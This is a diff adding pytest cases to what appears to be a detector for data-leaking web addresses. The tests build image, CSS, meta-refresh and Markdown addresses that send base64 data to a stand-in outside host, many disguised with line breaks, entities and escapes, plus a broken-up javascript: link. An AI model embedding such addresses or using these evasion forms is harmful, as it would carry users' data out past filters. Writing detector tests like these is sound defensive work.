@@ -64,6 +64,104 @@ def test_address_is_found_to_the_character_in_whatever_syntax(around, kind):
     assert (seen(text), found(text)) == ([(kind, 0.99 if kind == "image" else 0.9)], [url])
 
 
+HOST = OUT.removeprefix("https://")
+
+
+@pytest.mark.parametrize(
+    "around",
+    [
+        '<img src="@">',
+        "<img src='@'>",
+        "<img alt='>'\n src = '@'/>",
+        '<video poster="@">',
+        '{"h": "<img src=\\"@\\">"}',
+    ],
+)
+@pytest.mark.parametrize(
+    "sign", ["\n", "\r\n", "\t", "\n\r\n", "&#10;", "&#x0D;", "&NewLine;", "&#" + "0" * 5_000 + "10;"]
+)
+def test_breaks_anywhere_in_a_quoted_address_count_for_nothing_and_it_is_found_whole(around, sign):
+    for at in (0, 2, 6, 7, 12, len(OUT), len(OUT) + 1, len(OUT) + 4, len(OUT) + 14, len(OUT) + 30):
+        url = f"{OUT}/?d={BASE64}"
+        url = url[:at] + sign + url[at:]
+        text = around.replace("@", url)
+        assert (seen(text), found(text)) == ([("image", 0.99)], [url])
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        *(
+            f"{slashes}{HOST}/?d={BASE64}"
+            for slashes in ("//", "/\\", "\\/", "\\\\", "///", "/\t/", "/\n\\", "https:", "https:/\\")
+        ),
+        *(
+            f"{around}{OUT}/?d={BASE64}{around}"
+            for around in (" ", "\n", "\x00\x1f", " " * 200, "\n\t" * 200, "&#32;" * 50)
+        ),
+        f"HtTpS:\\\\{HOST}/?d={BASE64}",
+        f"&#{'0' * 5_000}104;ttps://{HOST}/?d={BASE64}",
+        f"{OUT}/?x=](https://ok.example/a)&d={BASE64}",
+        f"{OUT}/?x=>&d={BASE64}",
+        f"{OUT}/\n\n![x](https://ok.example/a.png)\n?d={BASE64}",
+    ],
+)
+def test_address_in_quotes_is_read_as_a_browser_reads_it(url):
+    for text in (
+        f'<img src="{url}">',
+        f"<img src='{url}'>",
+        f'<object data="{url}">',
+        f'src="<img src="{url}">',
+        f'<img src="{url}',
+    ):
+        assert (seen(text), found(text)) == ([("image", 0.99)], [url])
+
+
+@pytest.mark.parametrize(
+    ("text", "url"),
+    [
+        # Without quotes: to the next blank or `>`.
+        (f"<img src=/\\{HOST}/?d={BASE64}>", f"/\\{HOST}/?d={BASE64}"),
+        (f"<img src={OUT}/?'d={BASE64} alt=x>", f"{OUT}/?'d={BASE64}"),
+        (f'<img alt=""src={OUT}/?"<d={BASE64}>', f'{OUT}/?"<d={BASE64}'),
+        ("<img src\n\n\n\n\n\n=\n\n\n\n\n\n" + f"{OUT}/?d={BASE64}>", f"{OUT}/?d={BASE64}"),
+        # Sets, pages that move on, style.
+        (f'<img srcset="a.png 1x, /\\{HOST}/?d={BASE64} 2x">', f"/\\{HOST}/?d={BASE64}"),
+        (f"<img srcset='//{HOST}/?d={BASE64}, a.png 2x'>", f"//{HOST}/?d={BASE64}"),
+        (f'<meta http-equiv=refresh content="0;\n url=ht\ntps://{HOST}/?d={BASE64}">', f"ht\ntps://{HOST}/?d={BASE64}"),
+        (f"<p style=\"background:url('{OUT}/\n?d={BASE64}')\">", f"{OUT}/\n?d={BASE64}"),
+        (f"a {{background: url(\n\n\n\n\n\n{OUT}/?d={BASE64}\n)}}", f"{OUT}/?d={BASE64}"),
+        (f'@import "//{HOST}/?d={BASE64}";', f"//{HOST}/?d={BASE64}"),
+        (rf'a {{background: url("\68 ttps\3a //{HOST}/?d={BASE64}")}}', rf"\68 ttps\3a //{HOST}/?d={BASE64}"),
+        (rf"a {{background: url(\00002f\2f {HOST}/?\d={BASE64})}}", rf"\00002f\2f {HOST}/?\d={BASE64}"),
+        # Markdown: escapes, parentheses within, however many blanks.
+        (rf"![x](https\:\/\/{HOST}/?d={BASE64})", rf"https\:\/\/{HOST}/?d={BASE64}"),
+        (rf"![x](/\{HOST}/?d={BASE64})", rf"/\{HOST}/?d={BASE64}"),
+        (rf"![x]({OUT}/\)?d={BASE64})", rf"{OUT}/\)?d={BASE64}"),
+        (f"![x]({OUT}/(a(b(c)))?d={BASE64})", f"{OUT}/(a(b(c)))?d={BASE64}"),
+        (rf"![x](<{OUT}/\>?d={BASE64}>)", rf"{OUT}/\>?d={BASE64}"),
+        (f"![x]({' ' * 50}\r\n{' ' * 50}//{HOST}/?d={BASE64})", f"//{HOST}/?d={BASE64}"),
+        (f"![x][r]\n\n[r]:{' ' * 50}<ht&#116;ps://{HOST}/?d={BASE64}>", f"ht&#116;ps://{HOST}/?d={BASE64}"),
+    ],
+)
+def test_address_is_found_whole_in_the_syntax_of_its_place(text, url):
+    assert (seen(text), found(text)) == ([("image", 0.99)], [url])
+
+
+@pytest.mark.parametrize("break_", ["\n", "\r\n", "\t", "&NewLine;"])
+def test_script_with_a_break_in_its_name_is_one(break_):
+    text = f'<a href=" java{break_}script:{break_}fetch(1)">x</a>'
+    assert (seen(text), found(text)) == ([("link", 0.99)], [f" java{break_}script:{break_}fetch(1)"])
+
+
+def test_address_behind_what_only_looks_like_an_attribute_is_found():
+    url = f"{OUT}/?d={BASE64}"
+    for before in ("src='https://img.shields.io/badge/a ", 'content="Note: see ', "data='x: "):
+        (finding,) = find(f"{before}{url} and more")
+        assert finding.score == 0.9
+        assert finding.spans[0].end >= len(before) + len(url)
+
+
 @pytest.mark.parametrize(
     ("path", "image", "link"),
     [
@@ -147,6 +245,13 @@ def test_what_an_address_is_counts_in_a_link_too(url, score):
         "https://münchen.de https://xn--mnchen-3ya.de https://почта.рф https://日本語.jp",
         "https://user:password@localhost/ https://username:password@db.example.com/ postgres://a:b3c4@db/x",
         "http://[::bad/ https:// http://?q=1 ![](",
+        '<img\n  src="https://cdn.example.com/a.png"\n  alt="A plan of the house and all of its many rooms">',
+        "fetch('https://api.example.com/v1/items', {headers: {src: 'it is what the user of this page wants'}})",
+        '{"u":"https://ok.example/x?src=https://cdn.example.com","say":"' + BASE64 + '"}',
+        "url(#gradient) url('../fonts/a.woff2') @import 'base.css'; <meta content=\"width=device-width, initial-scale=1\">",
+        '<meta name="description" content="10 ways to say: what a user wants to know"> data="a: b" \\\\server\\share',
+        "The attribute src='' is empty, and href=\" is not closed; it's what the user of the page wants, isn't it?",
+        '<img src="&#' + "1" * 5_000 + ";&#" + "0" * 5_000 + ';">',
     ],
 )
 def test_ordinary_addresses_are_no_finding(text):
@@ -313,12 +418,42 @@ def test_image_is_found_whatever_stands_around_it(before, after):
             "0x",
             "1.",
         ),
+        *(
+            'src=\\"',
+            "src=\\\\'",
+            "src=a",
+            " src=a'",
+            'src="//a\n',
+            "src\n",
+            "src=\n",
+            "srcset='//a, ",
+            "srcset=,",
+            'content="0;',
+        ),
+        *(
+            "content=0;url=",
+            "content=0 ",
+            "url( ",
+            "url(\\2f",
+            "url(\\(",
+            'url("//a\\a',
+            "@import ",
+            "@import'//a",
+            "&#0",
+            "&#10",
+        ),
+        *("](//a/(", "](//a/(b(c(", "](\\(", "](<\\>", "]( \n", "[a]:  \n", "\n[a]: <//a "),
         *("data:", "javascript:", " javascript:", "href=java&#115;cript: ", "![x](//a/?d=" + BASE64 + ")"),
     ],
 )
 @pytest.mark.parametrize("head", ["", "![x](https://a.b/?q=", "https://"])
 def test_time_grows_with_the_length_and_no_faster(unit, head, grows_with_its_length):
     assert grows_with_its_length(find, unit, before=head)
+
+
+@pytest.mark.parametrize("unit", ["src='", " src=a", "url('", "&#0", "\n", "https://a.b/?c=d ", "](//a/("])
+def test_quote_that_never_ends_costs_no_more(unit, grows_with_its_length):
+    assert grows_with_its_length(find, unit, before='<img src="//a/?q=')
 
 
 @pytest.mark.parametrize("unit", ["The quick brown fox. ", "https://a.example/b?c=d ", f"![x]({OUT}/?d={BASE64}) "])
